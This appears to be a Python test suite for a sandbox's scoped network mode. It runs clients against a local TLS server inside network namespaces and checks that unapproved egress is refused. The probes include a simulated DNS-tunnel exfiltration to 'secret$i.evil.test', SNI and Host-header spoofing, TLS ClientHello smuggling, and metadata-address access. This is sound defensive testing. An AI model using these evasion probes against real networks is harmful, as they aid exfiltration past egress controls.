"""network: scoped, with real clients and a real TLS server, in a network namespace that each case makes for
itself.

The server has an address of the public internet there, which leads to no other machine. Names come from a
hosts file that is mounted over /etc/hosts in a mount namespace of the test. No packet leaves the machine."""

import http.server
import json
import os
import socket
import socketserver
import ssl
import subprocess
import sys
import tarfile
import threading
import time
import zipfile

import at_once
import own_namespaces
from pawl_testing import PawlTest

PUBLIC, PUBLIC6 = "93.184.215.14", "2606:2800:21f:cb07::1"
HOSTS = f"""127.0.0.1 localhost
{PUBLIC} good.test other.test a.wild.test b.wild.test
{PUBLIC6} six.test
10.20.30.40 private.test
169.254.169.254 metadata.test
{PUBLIC} secret1.evil.test
"""
RESOLVER = "1.1.1.1"  # for a client that asks it instead of its own resolver


class Handler(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass


class Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET
    daemon_threads = True


class Server6(Server):
    address_family = socket.AF_INET6


class Egress(PawlTest):
    def setUp(self):
        super().setUp()
        for command in (["ip", "link", "set", "lo", "up"], ["ip", "addr", "replace", f"{PUBLIC}/32", "dev", "lo"],
                        ["ip", "-6", "addr", "replace", f"{PUBLIC6}/128", "dev", "lo"],
                        ["ip", "addr", "replace", "10.20.30.40/32", "dev", "lo"],
                        ["ip", "addr", "replace", f"{RESOLVER}/32", "dev", "lo"]):
            subprocess.run(command, check=True)
        self.write("hosts", HOSTS)
        subprocess.run(["mount", "--bind", self.root / "hosts", "/etc/hosts"], check=True)
        self.addCleanup(subprocess.run, ["umount", "/etc/hosts"], check=True)
        self.web = self.root / "web"
        self.web.mkdir()
        (self.web / "hello").write_text("hello\n")
        subprocess.run("git init -q -b main r && cd r && echo x > f && git add f && git -c user.name=t -c user.email=t@t.test "
                       "commit -qm one && git update-server-info", shell=True, check=True, cwd=self.web)
        self.tls = self.root / "tls"
        self.tls.mkdir()
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=good.test",
                        "-addext", "subjectAltName=DNS:good.test,DNS:other.test,DNS:*.wild.test,DNS:six.test", "-keyout",
                        self.tls / "key", "-out", self.tls / "cert"], check=True, capture_output=True)
        os.chmod(self.tls / "cert", 0o644)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.tls / "cert", self.tls / "key")
        handler = lambda *a, **k: Handler(*a, directory=str(self.web), **k)
        self.serve(Server(("0.0.0.0", 443), handler), context)
        self.serve(Server6((PUBLIC6, 443), handler), context)
        self.serve(Server(("0.0.0.0", 80), handler), None)

    def serve(self, server, context):
        if context:
            server.socket = context.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)

    def inside(self, script, *egress, expect=None, env=None):
        allowed = [word for entry in egress for word in ("--egress", entry)]
        done = self.pawl("sandbox", "exec", "--network", "scoped", *allowed, "--ro", f"{self.tls}/cert:/ca", "--", "sh", "-c",
                         script, expect=expect, env=env)
        return done

    def test_clients_that_know_nothing_of_proxies(self):
        for name, script in {
                "curl": "curl -sS --cacert /ca https://good.test/hello",
                "python": "python3 -c \"import ssl, urllib.request as u; print(u.urlopen('https://good.test/hello', context="
                          "ssl.create_default_context(cafile='/ca')).read().decode(), end='')\"",
                "git": "git -c http.sslCAInfo=/ca clone -q https://good.test/r/.git /tmp/r && cat /tmp/r/f",
                "openssl": "printf 'GET /hello HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n' | "
                           "openssl s_client -quiet -CAfile /ca -verify_return_error -servername good.test "
                           "-connect good.test:443 2>/dev/null | tail -1",
                "wget": "wget -q -O - --ca-certificate=/ca https://good.test/hello",
        }.items():
            with self.subTest(name):
                done = self.inside(f"command -v {name if name != 'python' else 'python3'} >/dev/null || exit 99; {script}",
                                   "good.test:443")
                self.assertEqual((done.returncode, done.stdout), (0, "x\n" if name == "git" else "hello\n"), done.stderr)

    def test_package_managers(self):
        self.publish_packages()
        for name, script in {
                "pip": "cd /tmp && /usr/bin/python3 -m pip install -q --no-cache-dir --disable-pip-version-check --cert /ca "
                       "--index-url https://good.test/simple --target /tmp/t greeting && cat /tmp/t/greeting.py",
                "npm": "cd /tmp && npm install --silent --no-audit --no-fund --cache /tmp/cache --cafile /ca "
                       "--registry https://good.test/ greeting >/dev/null && cat node_modules/greeting/greeting.js",
        }.items():
            with self.subTest(name):
                done = self.inside(script, "good.test:443")
                self.assertEqual((done.returncode, done.stdout), (0, f"// hello from {name}\n"), done.stderr)
                done = self.inside(script.replace("good.test", "other.test").replace(
                    "pip install", "pip install --retries 0 --timeout 3").replace(
                        "npm install", "npm install --fetch-retries 0"), "good.test:443")
                self.assertNotEqual(done.returncode, 0, "a registry that is not allowed")

    def publish_packages(self):
        """One package for each client, as its registry serves it."""
        with zipfile.ZipFile(self.folder("web/simple/greeting") / "greeting-1.0-py3-none-any.whl", "w") as wheel:
            about = "greeting-1.0.dist-info"
            wheel.writestr("greeting.py", "// hello from pip\n")
            wheel.writestr(f"{about}/METADATA", "Metadata-Version: 2.1\nName: greeting\nVersion: 1.0\n")
            wheel.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
            wheel.writestr(f"{about}/RECORD", f"greeting.py,,\n{about}/METADATA,,\n{about}/WHEEL,,\n{about}/RECORD,,\n")
        package = {"name": "greeting", "version": "1.0.0"}
        source = self.folder("npm/package")
        (source / "package.json").write_text(json.dumps(package))
        (source / "greeting.js").write_text("// hello from npm\n")
        with tarfile.open(self.web / "greeting-1.0.0.tgz", "w:gz") as tarball:
            tarball.add(source, "package")
        package["dist"] = {"tarball": "https://good.test/greeting-1.0.0.tgz"}
        (self.web / "greeting").write_text(json.dumps(
            {"name": "greeting", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": package}}))

    def folder(self, name):
        (self.root / name).mkdir(parents=True)
        return self.root / name

    def echo_datagrams(self, address):
        server = socketserver.ThreadingUDPServer(
            address, type("Echo", (socketserver.BaseRequestHandler,), {
                "handle": lambda self: self.request[1].sendto(self.request[0], self.client_address)}))
        self.serve(server, None)

    def outside(self, script):
        """The same without a sandbox: a request that is refused inside must work here. Otherwise the
        refusal is no proof."""
        return subprocess.run(["sh", "-c", script.replace("/ca ", f"{self.tls}/cert ")], capture_output=True, text=True, timeout=60)

    def test_nothing_else_gets_out(self):
        for address in ((RESOLVER, 53), (PUBLIC, 443)):
            self.echo_datagrams(address)
        for name, script in {
                "another name": "curl -sS -m 5 --cacert /ca https://other.test/hello",
                "another port": "curl -sS -m 5 http://good.test/hello",
                "the address itself": f"curl -sS -m 5 -k https://{PUBLIC}/hello",
                "another name at the allowed address": "curl -sS -m 5 -k --connect-to other.test:443:good.test:443 "
                                                       "https://other.test/hello",
                "IPv6": f"curl -sS -m 5 -g -k 'https://[{PUBLIC6}]/hello'",
                "DNS of another server": "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                                         f"s.settimeout(2); s.sendto(b'x' * 20, ('{RESOLVER}', 53)); print(s.recv(9))\"",
                "a DNS tunnel": "for i in 1 2 3; do getent hosts secret$i.evil.test && exit 0; done; exit 1",
                "UDP to an allowed name": "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                                          "s.settimeout(2); s.connect(('good.test', 443)); s.send(b'x'); s.recv(9)\"",
                "ICMP": "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\"",
                "the proxy, to another name": "curl -sS -m 5 -k -x http://198.18.0.1:3128 https://other.test/hello",
        }.items():
            with self.subTest(name):
                done = self.inside(script, "good.test:443")
                self.assertNotEqual(done.returncode, 0, done.stdout)
                self.assertNotIn("hello", done.stdout)
                # The proxy exists only inside. It takes the name as soon as the name is allowed.
                further = self.inside(script, "other.test:443") if "proxy" in name else self.outside(script)
                self.assertEqual(further.returncode, 0, further.stderr)

    def test_each_refusal_is_told(self):
        script = ("curl -sS -m 5 -k --connect-to other.test:443:good.test:443 https://other.test/hello; "
                  "curl -sS -m 5 -H 'Host: other.test' http://good.test/hello; getent hosts evil.test || true")
        self.assertEqual(self.outside(script).stdout, "hello\nhello\n")
        done = self.inside(script, "good.test:443", "good.test:80")
        self.assertEqual(done.stdout, "")
        for words in ('the TLS hello names "other.test"', 'the Host header names "other.test"',
                      "evil.test:0: refused: this name is not allowed"):
            self.assertIn(words, done.stderr)

    def test_requests_by_another_spelling_are_refused(self):
        curl = "curl -s -m 5 -o /dev/null -w '%{http_code} ' http://good.test/hello "
        script = f"{curl} -X PROPFIND -H 'Host: other.test'; {curl} --request-target http://other.test/hello; {curl} -X PROPFIND"
        self.assertEqual(self.outside(script).stdout, "501 404 501 ")
        done = self.inside(script, "good.test:80", expect=0)
        self.assertEqual(done.stdout, "000 000 501 ")
        self.assertIn('the Host header names "other.test"', done.stderr)
        self.assertIn('the request\'s target names "other.test"', done.stderr)

    def hello(self, name):
        """The complete first flight of a client: one record."""
        reads, writes = ssl.MemoryBIO(), ssl.MemoryBIO()
        try:
            ssl._create_unverified_context().wrap_bio(reads, writes, server_hostname=name).do_handshake()
        except ssl.SSLWantReadError:
            return writes.read()

    def what_arrives(self, sent, host, *egress, walls_off=""):
        """The bytes that a server receives when these are sent; None when the connection was refused."""
        arrived = []
        listener = socket.create_server(("0.0.0.0", 8443))
        listener.settimeout(0.1)
        script = ("import socket; s = socket.create_connection(('%s', 8443)); s.settimeout(20); s.sendall(bytes.fromhex('%s')); print(s.recv(9))"
                  % (host, sent.hex()))
        stop = threading.Event()

        def take():
            while not stop.is_set():
                try:
                    peer, _ = listener.accept()
                except TimeoutError:
                    continue
                peer.settimeout(20)
                got = b""
                while len(got) < len(sent) and (more := peer.recv(1 << 16)):
                    got += more
                arrived.append(got)
                peer.sendall(b"seen")
                peer.close()
        thread = threading.Thread(target=take)
        thread.start()
        try:
            options = [word for entry in egress for word in ("--egress", entry)]
            self.pawl("sandbox", "exec", "--network", "scoped", *options, "--", "/usr/bin/python3", "-c", script, expect=None,
                      env={"PAWL_WALLS_OFF": walls_off})
        finally:
            stop.set()
            thread.join()
            listener.close()
        return arrived[0] if arrived and arrived[0] else None

    def test_no_record_hides_a_hello(self):
        hello = self.hello("evil.test")
        record = lambda kind, content, version=0x0303: bytes([kind]) + version.to_bytes(2, "big") + len(content).to_bytes(2, "big") + content
        alert, change = record(21, b"\x01\x5a"), record(20, b"\x01")
        in_bytes = b"".join(record(22, bytes([each]), 0x0301) for each in hello[5:])
        ssl2 = bytes.fromhex("802e0103030015000000100000") + bytes(35)
        for name, sent in {"a hello": hello, "an alert": alert + hello, "alerts": alert * 4 + hello, "an alert of no version": record(21, b"\x01\x5a", 1) + hello,
                           "a change of ciphers": change + hello, "an empty record": record(22, b"") + hello, "empty data": record(23, b"") + hello,
                           "a heartbeat": record(24, b"x") + hello, "records of one byte": in_bytes,
                           "an alert between parts": record(22, hello[5:20], 0x0301) + alert + record(22, hello[20:], 0x0301),
                           "SSL 2.0": ssl2, "a hello without a name": self.hello(None)}.items():
            for host, entry in (("good.test", "good.test:8443"), (PUBLIC, f"{PUBLIC}:8443")):
                if host == PUBLIC and name in ("SSL 2.0", "a hello without a name"):
                    continue  # it connects to the number that was allowed, and names no other place
                with self.subTest(name, host=host):
                    self.assertIsNone(self.what_arrives(sent, host, entry))
                    self.assertEqual(self.what_arrives(sent, host, entry, walls_off="opening"), sent)
        self.assertEqual(self.what_arrives(self.hello("good.test"), "good.test", "good.test:8443")[:1], b"\x16")

    def test_connections_have_a_rate(self):
        # The rate is 128 connections at once, and 100 more for each second. However slow the machine is, the
        # script goes on until it has tried many more than that.
        self.write("source/many.py", """
import socket, sys, threading, time
start, tried = time.monotonic(), [0] * 4
def allowed():
    return 128 + 100 * (time.monotonic() - start + 1)
def work(mine):
    while sum(tried) < allowed() + 200 and time.monotonic() < start + 60:
        tried[mine] += 1
        socket.create_connection(("good.test", 80)).close()
threads = [threading.Thread(target=work, args=(mine,)) for mine in range(len(tried))]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(sum(tried), allowed())
""")
        done = self.pawl("sandbox", "exec", "--network", "scoped", "--egress", "good.test:80", "--ro", f"{self.root}/source/many.py:/many.py", "--",
                         "python3", "/many.py", expect=0)
        tried, allowed = map(float, done.stdout.split())
        refused = done.stderr.count("good.test:80: refused: too many connections in a second")
        self.assertGreater(tried, allowed, "this machine can't open connections faster than the rate")
        self.assertLessEqual(tried - refused, allowed)
        self.assertGreaterEqual(tried - refused, 128)

    def test_private_addresses_only_by_number(self):
        for name in ("private.test", "metadata.test"):
            done = self.inside(f"curl -sS -m 5 http://{name}/hello", f"{name}:80")
            self.assertNotEqual(done.returncode, 0)
            self.assertIn("which is not public; allow it by number", done.stderr)
        done = self.inside("curl -sS -m 5 http://private.test/hello", "private.test:80", expect=0, env={"PAWL_WALLS_OFF": "special"})
        self.assertEqual(done.stdout, "hello\n")
        done = self.inside("curl -sS http://private.test/hello; curl -sS http://10.20.30.40/hello", "private.test:80",
                           "10.20.30.40:80", expect=0)
        self.assertEqual(done.stdout, "hello\nhello\n")

    def test_an_address_by_number_needs_no_proxy(self):
        self.serve(Server6(("::1", 8080), lambda *a, **k: Handler(*a, directory=str(self.web), **k)), None)
        curl = "curl -sS -m 5 -g -k"
        six = f"{curl} https://[{PUBLIC6}]/hello"
        done = self.inside(f"{curl} https://{PUBLIC}/hello; {six}; {curl} http://[::1]:8080/hello", f"{PUBLIC}:443", f"[{PUBLIC6}]:443", "[::1]:8080", expect=0)
        self.assertEqual(done.stdout, "hello\n" * 3)
        for script, entry in ((six, f"{PUBLIC}:443"), (six, f"[{PUBLIC6}]:80"), (f"{curl} http://[::1]:8080/hello", f"[{PUBLIC6}]:443"),
                              (f"{curl} -H 'Host: other.test' http://[::1]:8080/hello", "[::1]:8080")):
            with self.subTest(script, entry=entry):
                self.assertNotEqual(self.inside(script, entry).returncode, 0)

    def test_a_server_of_this_host_by_its_number(self):
        curl = "curl -sS -m 5 -g"
        self.serve(Server6(("::1", 8080), lambda *a, **k: Handler(*a, directory=str(self.web), **k)), None)
        done = self.inside(f"{curl} http://127.0.0.1/hello; {curl} http://localhost/hello; {curl} http://[::1]:8080/hello; "
                           f"{curl} -H 'Host: localhost:8080' http://[::1]:8080/hello", "127.0.0.1:80", "[::1]:8080", expect=0)
        self.assertEqual(done.stdout, "hello\n" * 4)
        for host in ("other.test", "[::2]", "127.0.0.2", "x..y", "localhost.other.test"):
            with self.subTest(host):
                done = self.inside(f"{curl} -H 'Host: {host}' http://127.0.0.1/hello", "127.0.0.1:80")
                self.assertIn("refused: the Host header names", done.stderr)
                self.assertNotIn("hello", done.stdout)
        for entry in ("localhost:80", "LOCALHOST:80", "api.localhost:80"):
            self.assertIn('write "127.0.0.1:80" or "[::1]:80"', self.inside("true", entry, expect=2).stderr)
        self.write("source/file", "x\n")
        self.write("plan.yaml", "version: 1\nworkflow: net\nsource: {path: source}\ngates:\n  check: {steps: [{name: unit, run: 'true'}]}\n"
                   "tiers: [{phases: [{id: p, goal: g, agent: {run: 'true', network: scoped, egress: ['localhost:8080']}, gates: [check]}]}]\n")
        told = self.pawl("check", "plan.yaml", expect=2).stderr
        self.assertIn('plan.yaml:6:', told)
        self.assertIn('write "127.0.0.1:8080" or "[::1]:8080"', told)

    def test_names_below_a_star(self):
        done = self.inside("curl -sS --cacert /ca https://a.wild.test/hello https://b.wild.test/hello", "*.wild.test:443",
                           expect=0)
        self.assertEqual(done.stdout, "hello\nhello\n")
        self.assertNotEqual(self.inside("getent hosts wild.test", "*.wild.test:443").returncode, 0)

    def test_the_proxy_and_ipv6_upstreams(self):
        done = self.inside("curl -sS --cacert /ca -x http://198.18.0.1:3128 https://good.test/hello; "
                           "curl -sS --cacert /ca https://six.test/hello", "good.test:443", "six.test:443", expect=0)
        self.assertEqual(done.stdout, "hello\nhello\n")

    def test_a_server_that_speaks_first_and_a_large_body(self):
        (self.web / "large").write_bytes(os.urandom(8 << 20))
        listener = socket.create_server(("0.0.0.0", 2222))
        self.addCleanup(listener.close)

        def greet():
            peer, _ = listener.accept()
            peer.sendall(b"220 welcome\n")
            peer.close()
        threading.Thread(target=greet, daemon=True).start()
        done = self.inside("python3 -c \"import socket; print(socket.create_connection(('good.test', 2222)).recv(99))\"; "
                           "curl -sS --cacert /ca https://good.test/large | md5sum", "good.test:2222", "good.test:443", expect=0)
        self.assertIn("220 welcome", done.stdout)
        digest = subprocess.run(["md5sum", self.web / "large"], capture_output=True, text=True).stdout.split()[0]
        self.assertIn(digest, done.stdout)

    def test_a_name_that_does_not_resolve_is_a_clear_line_and_no_hang(self):
        started = time.monotonic()
        done = self.inside("curl -sS -m 30 http://nowhere.test/", "nowhere.test:80")
        self.assertLess(time.monotonic() - started, 30)
        self.assertNotEqual(done.returncode, 0)
        self.assertIn("nowhere.test:80: failed: nowhere.test does not resolve", done.stderr)

    def test_names_below_a_star_are_counted(self):
        script = "for i in $(seq 70); do getent hosts n$i.wild.test >/dev/null && echo n$i; done; curl -sS --cacert /ca https://a.wild.test/hello"
        done = self.inside(script, "*.wild.test:443")
        self.assertEqual(done.stdout.split(), [f"n{i}" for i in range(1, 65)])
        self.assertIn("n65.wild.test:0: refused: too many names below an allowed one", done.stderr)
        self.assertIn("a.wild.test:0: refused: too many names below an allowed one", done.stderr)
        self.assertNotEqual(done.returncode, 0)

    def answer_names(self, answers):
        """Acts as the only resolver of this network namespace. `answers` maps a name to its addresses,
        question by question; the last ones are for all further questions. None: no response is sent."""
        asked = {}

        def handle(request):
            question, sock = request.request
            labels, at = [], 12
            while question[at]:
                labels.append(question[at + 1:at + 1 + question[at]].decode())
                at += 1 + question[at]
            name, wants_v4 = ".".join(labels), question[at + 1:at + 3] == b"\0\1"
            turns = answers.get(name, [[]])
            now = turns[min(asked.get(name, 0), len(turns) - 1)]
            asked[name] = asked.get(name, 0) + wants_v4
            if now is None:
                return
            found = now if wants_v4 else []
            header = question[:2] + (b"\x81\x80" if name in answers else b"\x81\x83") + bytes([0, 1, 0, len(found), 0, 0, 0, 0])
            sock.sendto(header + question[12:at + 5] + b"".join(b"\xc0\x0c\0\1\0\1\0\0\0\0\0\4" + socket.inet_aton(each) for each in found),
                        request.client_address)

        self.serve(socketserver.ThreadingUDPServer((RESOLVER, 53), type("Names", (socketserver.BaseRequestHandler,), {"handle": handle})), None)
        self.write("resolv.conf", f"nameserver {RESOLVER}\n")
        subprocess.run(["mount", "--bind", self.root / "resolv.conf", "/etc/resolv.conf"], check=True)
        self.addCleanup(subprocess.run, ["umount", "/etc/resolv.conf"], check=True)
        return asked

    def test_a_name_that_changes_its_address_midway(self):
        asked = self.answer_names({"turns.test": [[PUBLIC], ["10.20.30.40"]], "both.test": [["10.20.30.40", PUBLIC]]})
        curl = "curl -sS -m 5 http://turns.test/hello"
        done = self.inside(f"{curl}; {curl} && exit 9; curl -sS -m 5 http://both.test/hello", "turns.test:80", "both.test:80", expect=0)
        self.assertEqual(done.stdout, "hello\nhello\n", "the first time, and where one of two addresses is public")
        self.assertEqual(asked["turns.test"], 2, "asked anew for each connection")
        self.assertIn("turns.test:80: refused: turns.test leads to 10.20.30.40, which is not public; allow it by number", done.stderr)
        self.assertNotIn("both.test", done.stderr)

    def test_a_name_that_nobody_answers_for_is_a_clear_line_and_no_hang(self):
        self.answer_names({"silent.test": [None], "empty.test": [[]]})
        for name, budget, code in ("silent.test", 60, 0), ("silent.test", 2, 124), ("empty.test", 60, 0), ("unknown.test", 60, 0):
            with self.subTest(name, budget=budget):
                started = time.monotonic()
                done = self.pawl("sandbox", "exec", "--network", "scoped", "--egress", f"{name}:80", "--time-budget-seconds", str(budget), "--", "sh", "-c",
                                 f"curl -sS -m 50 http://{name}/; test $? -ne 0", expect=code)
                self.assertLess(time.monotonic() - started, 20)
                self.assertIn(f"{name}:80: failed: {name} does not resolve: ", done.stderr)

    def test_a_plan_and_its_network_log(self):
        self.write("source/file", "x\n")
        self.write("plan.yaml", """version: 1
workflow: net
source: {path: source}
gates:
  check: {steps: [{name: unit, run: "true"}], baseline: none}
tiers:
  - phases:
      - {id: p, may_be_empty: true, goal: g, agent: {run: "curl -sS http://good.test/hello; getent hosts evil.test || true", network: scoped, egress: ["good.test:80"], trace: true}, gates: [check]}
""")
        self.pawl("run", "plan.yaml", expect=0)
        step = self.pawl_json("inspect", "last")["phases"][0]["attempts"][0]["steps"][0]
        self.assertEqual(step["run"]["egress_allowlist"], ["good.test:80"])
        self.assertEqual([tried["host"] for tried in step["network_refused"]], ["evil.test"] * 2, "for IPv4 and IPv6")
        told = {s["kind"]: s["details"].get("egress_refused")
                for s in self.pawl_json("inspect", "last")["phases"][0]["attempts"][0]["signals"]}
        self.assertEqual(told, {"agent": 2, "empty": None, "build": None})
        self.assertIn("network: evil.test:0: refused", self.pawl("inspect", "last", expect=0).stdout)
        network = self.pawl("logs", "last", "p", "--network", expect=0).stdout
        self.assertIn('"host":"good.test"', network)
        self.assertIn('"received":', network)
        trace = self.pawl("logs", "last", "p", "--trace", expect=0).stdout
        self.assertIn('"event":"exec"', trace)
        self.assertIn('"address":"198.18.1.0"', trace)

    def test_steps_of_a_gate_have_their_own_network_and_limits_and_one_workspace(self):
        self.write("source/file", "x\n")
        self.write("plan.yaml", """version: 1
workflow: net
source: {path: source}
max_attempts: 1
gates:
  check:
    steps:
      - {name: fetch, run: "curl -sS http://good.test/hello >fetched", network: scoped, egress: ["good.test:80"], memory_limit_mib: 512}
      - {name: offline, run: "test -s fetched && ! curl -sS -m 5 http://good.test/hello && echo by-offline >seen", memory_limit_mib: 256}
      - {name: small, run: "grep by-offline seen; exec /usr/bin/python3 -c '[1] * (40 << 20)'", memory_limit_mib: 64}
    signals: [build]
    baseline: none
tiers:
  - phases:
      - {id: p, goal: g, agent: {run: echo >>file}, gates: [check]}
""")
        self.pawl("run", "plan.yaml", expect=11)
        attempt = self.pawl_json("inspect", "last")["phases"][0]["attempts"][0]
        steps = attempt["steps"][1:]
        self.assertEqual([(s["run"]["outcome"], s["run"]["egress_allowlist"]) for s in steps],
                         [("exited", ["good.test:80"]), ("exited", []), ("oom_killed", [])])
        self.assertEqual(attempt["signals"][-1]["details"]["step"], "small")
        self.assertEqual(attempt["verdict"], "escalate", "out of memory is not to be tried again")


if __name__ == "__main__":
    if len(sys.argv) > 1:
        own_namespaces.enter("mn", *sys.argv[1:])
    at_once.main(enter=lambda case: own_namespaces.enter("mn", case))
